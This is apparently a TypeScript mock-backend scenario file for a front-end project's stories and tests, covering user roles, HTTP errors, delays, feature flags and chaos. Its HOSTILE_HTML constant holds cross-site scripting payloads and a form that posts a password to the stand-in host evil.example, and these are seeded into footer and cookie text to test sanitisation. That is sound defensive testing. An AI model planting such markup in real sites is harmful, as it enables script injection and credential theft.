import { delay, HttpResponse, http, type RequestHandler } from 'msw';
import { ACCESS_FLAGS, type AccessFlag } from '@/api/settings';
import { chaosHandlers, startChaos } from './chaos';
import type { CreateDbOptions, MockDb } from './db';
import { neverRespond } from './never-respond';

/**
 * Named situations of the whole mock backend, selectable per story (the
 * Scenario toolbar or `parameters.scenario`), per test (`mocks/node.ts`) and
 * for `npm start` (MOCK_SCENARIO=...).
 */
export interface Scenario {
  label: string;
  /** How the database is built (who is signed in, how much data). */
  db?: Omit<CreateDbOptions, 'seed'>;
  /** Changes the seeded data. */
  seed?: (db: MockDb) => void;
  /** Handlers placed before the regular ones (errors, delays). */
  handlers?: RequestHandler[];
}

const everyApiCall = '*/api/v2/*';

/**
 * Markup that would run script, post a form, frame another page, cover the page or take the name of
 * the page's own state, if any of it got through. Each attempt sets `window.hostileMarkupRan`.
 */
export const HOSTILE_HTML =
  '<p id="page-state">Kept text, <a href="https://example.com/terms" target="_blank">the terms</a>.</p>' +
  '<img src="x" onerror="window.hostileMarkupRan=1">' +
  '<script>window.hostileMarkupRan=2</script>' +
  '<a href="javascript:window.hostileMarkupRan=3">Run</a>' +
  '<iframe src="javascript:parent.hostileMarkupRan=4"></iframe>' +
  '<svg><script>window.hostileMarkupRan=5</script></svg>' +
  '<form action="https://evil.example"><input name="password"><button>Send</button></form>' +
  '<p style="position:fixed;inset:0" class="pos_fixed">Cover</p>' +
  '<noscript><p title="</noscript><img src=x onerror=window.hostileMarkupRan=6>"></p></noscript>';
const failWith = (status: number) => [
  http.all(everyApiCall, () => HttpResponse.json({ message: `Mock scenario: ${status}` }, { status })),
];

/**
 * The session itself and what the shell asks for a visitor: the calls the `sessionRefused`
 * scenario responds as usual (GET settings covers its general, footer and countries types).
 */
const SESSION_AND_SITE = new Set([
  'me',
  'user/login',
  'user/logout',
  'settings',
  'config/public',
  'settings/site',
  'settings/branding',
  'appearance',
  'languages',
  'translations',
  'cookies-disclaimer',
  'navigation',
]);

const switchOff = (db: MockDb, flag: AccessFlag) => {
  for (const flags of Object.values(db.platform.roleFlags)) flags[flag] = false;
};

export const scenarios = {
  default: { label: 'Default data' },
  visitor: { label: 'Visitor (signed out)', db: { role: 'visitor' } },
  learner: { label: 'Learner', db: { role: 'learner' } },
  administrator: {
    label: 'Administrator',
    db: { role: 'administrator' },
    seed: (db) => {
      for (const flag of ACCESS_FLAGS) db.platform.roleFlags.administrator[flag] = true;
    },
  },
  emptyWallet: {
    label: 'Empty wallet',
    seed: (db) => {
      db.wallet.points = 0;
    },
  },
  unauthorized: { label: '401 everywhere', handlers: failWith(401) },
  // A backend that says "signed in" on `me` and refuses everything else, as Stoplight Prism on
  // docs/api/openapi.json does without a session cookie (issue 44).
  sessionRefused: {
    label: 'Signed in, refused elsewhere',
    db: { role: 'learner' },
    handlers: [
      http.all(everyApiCall, ({ request }) => {
        const path = new URL(request.url).pathname.replace(/^.*?\/api\/v2\//, '');
        if (SESSION_AND_SITE.has(path)) return undefined;
        return HttpResponse.json({ message: 'Mock scenario: 401' }, { status: 401 });
      }),
    ],
  },
  forbidden: { label: '403 everywhere', handlers: failWith(403) },
  notFound: { label: '404 everywhere', handlers: failWith(404) },
  serverError: { label: '500 everywhere', handlers: failWith(500) },
  slow: {
    label: 'Slow (2 s per call)',
    handlers: [
      http.all(everyApiCall, async () => {
        await delay(2000);
        // Falls through to the regular handlers.
      }),
    ],
  },
  neverResolving: {
    label: 'Never resolving',
    handlers: [http.all(everyApiCall, neverRespond)],
  },
  storefrontDisabled: {
    label: 'Storefront disabled',
    seed: (db) => {
      db.platform.publicConfig.storefront_page = false;
      switchOff(db, 'storefront_page');
    },
  },
  shopDisabled: {
    label: 'Incentives shop disabled',
    seed: (db) => {
      db.platform.siteSettings.incentives_shop_enabled = false;
      switchOff(db, 'incentives_shop_enabled');
    },
  },
  rtlLanguage: {
    label: 'Arabic (right to left)',
    seed: (db) => {
      db.platform.generalSettings.current_language = 'ar';
      for (const user of db.platform.users) user.language = 'ar';
    },
  },
  largeData: { label: 'Large data (thousands of rows)', db: { size: 'large' } },
  // Server HTML that tries every way into the page; what is left must be the sanitised text alone.
  hostileHtml: {
    label: 'Hostile server HTML (footer and cookie notice)',
    db: { role: 'visitor' },
    seed: (db) => {
      db.platform.footer.footer_text = HOSTILE_HTML;
      db.platform.cookieDisclaimer.disclaimer_text = HOSTILE_HTML;
    },
  },
  // Seeded failures, some after the backend did the work: see mocks/chaos.ts.
  chaos: {
    label: 'Chaos (random 5xx, slow calls, dropped connections; seeded)',
    seed: startChaos,
    handlers: chaosHandlers,
  },
} satisfies Record<string, Scenario>;

export type ScenarioName = keyof typeof scenarios;

export const scenarioNames = Object.keys(scenarios) as ScenarioName[];

export const isScenarioName = (value: unknown): value is ScenarioName =>
  typeof value === 'string' && value in scenarios;

export function getScenario(name: ScenarioName | undefined): Scenario {
  return scenarios[name ?? 'default'];
}
